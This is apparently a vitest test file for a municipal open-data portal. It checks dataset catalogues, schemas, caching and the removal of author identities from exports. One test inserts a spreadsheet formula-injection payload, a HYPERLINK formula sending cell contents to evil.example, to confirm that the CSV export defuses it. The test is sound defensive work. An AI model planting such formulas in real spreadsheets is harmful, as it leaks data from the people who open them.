import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { sql } from '#app/utils/db.server';
import { closeConnections } from '#app/utils/shutdown.server';
import { Browser } from '../support/app';

afterAll(closeConnections);

type Descriptor = { name: string; licenses: { name: string }[]; resources: { name: string; path: string; format: string; mediatype: string; schema: { fields: { name: string; type: string }[] } }[] };

const client = new Browser();

function checkType(type: string, value: string, field: string) {
  if (value === '') return; // empty = null
  const ok =
    type === 'integer' ? /^-?\d+$/.test(value) : type === 'number' ? !Number.isNaN(Number(value)) : type === 'boolean' ? value === 'true' || value === 'false' : type === 'datetime' ? !Number.isNaN(Date.parse(value)) : true;
  expect(ok, `${field} = ${JSON.stringify(value)} is not a ${type}`).toBe(true);
}

describe('the open data portal', () => {
  it('lists every dataset with its descriptor, and every file matches its descriptor', async () => {
    const catalogue = (await (await client.get('/data/catalog.json')).json()) as { datasets: { id: string; datapackage: string; rows: number }[] };
    expect(catalogue.datasets.map((d) => d.id)).toEqual(['reports', 'department-performance', 'ideas', 'initiatives', 'ballot-ledgers', 'ballot-results', 'participatory-budgets', 'ballot-turnout', 'decision-progress', 'survey-results', 'service-centres', 'city-services', 'centre-visits-daily', 'satisfaction-index-monthly', 'centre-service-daily', 'participation-by-channel']);
    for (const entry of catalogue.datasets) {
      const descriptor = (await (await client.get(new URL(entry.datapackage).pathname)).json()) as Descriptor;
      expect(descriptor.name).toBe(entry.id);
      expect(descriptor.licenses[0]!.name).toBe('CC-BY-4.0');
      for (const resource of descriptor.resources) {
        const response = await client.get(new URL(resource.path).pathname);
        expect(response.status).toBe(200);
        expect(response.headers.get('Content-Type')).toContain(resource.mediatype);
        expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="/);
        const fields = resource.schema.fields;
        const text = await response.text();
        if (resource.format === 'csv') {
          const rows = parse(text, { columns: true }) as Record<string, string>[];
          expect(Object.keys(rows[0] ?? Object.fromEntries(fields.map((f) => [f.name, ''])))).toEqual(fields.map((f) => f.name));
          expect(rows.length).toBeGreaterThan(0);
          for (const row of rows.slice(0, 500)) for (const f of fields) checkType(f.type, row[f.name]!, f.name);
        } else if (resource.format === 'geojson') {
          const geo = JSON.parse(text) as { type: string; features: { geometry: { coordinates: number[] }; properties: Record<string, unknown> }[] };
          expect(geo.type).toBe('FeatureCollection');
          expect(geo.features.length).toBeGreaterThan(0);
          expect(Object.keys(geo.features[0]!.properties)).toEqual(fields.map((f) => f.name));
          expect(geo.features[0]!.geometry.coordinates).toEqual([geo.features[0]!.properties.lng, geo.features[0]!.properties.lat]);
        } else {
          const rows = JSON.parse(text) as Record<string, unknown>[];
          expect(Object.keys(rows[0]!)).toEqual(fields.map((f) => f.name));
        }
      }
    }
  });

  it('publishes no author identity', async () => {
    const csv = await (await client.get('/data/reports/reports.csv')).text();
    expect(csv).not.toMatch(/@demo\.vmeste\.city|author/);
    expect(csv).not.toContain('Иван Жителев');
  });

  it('lets clients cache: the same ETag gives 304, and an unknown dataset 404', async () => {
    const first = await client.get('/data/department-performance/department-performance.csv');
    const etag = first.headers.get('ETag')!;
    expect(etag).toMatch(/^W\/"/);
    expect(first.headers.get('Last-Modified')).toBeTruthy();
    const again = await client.request('/data/department-performance/department-performance.csv', { headers: { 'If-None-Match': etag } });
    expect(again.status).toBe(304);
    expect((await client.get('/data/nothing/datapackage.json')).status).toBe(404);
    expect((await client.get('/data/reports/nothing.csv')).status).toBe(404);
  });
});

describe('CSV files and spreadsheets', () => {
  it('defuse a formula a resident typed (a leading \' in CSV), and keep the text as typed in JSON', async () => {
    const title = `=HYPERLINK("http://evil.example/?"&A1,"Click ${Date.now()}")`;
    const [idea] = await sql<{ id: number }[]>`
      INSERT INTO ideas (project_id, title, body) SELECT id, ${title}, '@SUM(1+1) and -2+3 in the body' FROM projects WHERE slug = 'clinics' RETURNING id::int AS id`;
    const rows = parse(await (await client.get('/data/ideas/ideas.csv')).text(), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === String(idea!.id))!;
    expect(row.title).toBe(`'${title}`);
    expect(row.body).toBe(`'@SUM(1+1) and -2+3 in the body`);
    const json = (await (await client.get('/data/ideas/ideas.json')).json()) as { id: number; title: string }[];
    expect(json.find((r) => r.id === idea!.id)?.title).toBe(title);
  });
});
